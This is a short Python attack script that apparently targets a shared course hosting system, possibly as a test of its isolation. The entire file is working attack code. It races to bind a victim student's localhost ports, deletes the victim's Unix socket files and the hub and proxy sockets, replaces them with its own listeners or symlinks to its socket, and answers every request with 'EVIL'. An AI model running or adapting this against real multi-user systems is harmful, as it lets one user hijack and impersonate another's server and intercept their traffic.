"""A student's attack: her process tries to pass for the server of another student.

    python attack.py CLASS VICTIM PORT ...

It tries again and again to listen at the ports and sockets that a server might use, answers every
request with EVIL, and prints each place where it listens.
"""

import contextlib
import http.server
import os
import socket
import socketserver
import sys
import threading
import time
from pathlib import Path


class Evil(http.server.BaseHTTPRequestHandler):
    def answer(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"EVIL")

    do_GET = do_POST = do_PUT = do_DELETE = answer

    def log_message(self, *words):
        pass


class AtSocket(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True

    def get_request(self):
        return self.socket.accept()[0], ("a student", 0)


def listen(kind, place, got):
    """Try to listen there, unless it does already."""
    if place in got:
        return
    with contextlib.suppress(OSError):
        server = kind(place, Evil)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        got.add(place)
        print("got", place, flush=True)


def main(folder: Path, victim: int, ports: list[int]):
    got, own = set(), folder / "run" / str(os.getuid())
    places = [folder / "run" / str(victim) / "server.sock", folder / "hub/doors" / str(victim)]
    (own / "evil.sock").unlink(missing_ok=True)
    places += [folder / "hub.sock", folder / "hub/proxy.sock"]
    while True:
        for port in ports:
            listen(http.server.ThreadingHTTPServer, ("127.0.0.1", port), got)
        for place in places:
            with contextlib.suppress(OSError):
                place.unlink()
            listen(AtSocket, str(place), got)
            with contextlib.suppress(OSError):
                place.symlink_to(own / "evil.sock")
        listen(AtSocket, str(own / "evil.sock"), got)
        time.sleep(0.001)


if __name__ == "__main__":
    socket.setdefaulttimeout(20)
    main(Path(sys.argv[1]), int(sys.argv[2]), [int(port) for port in sys.argv[3:]])
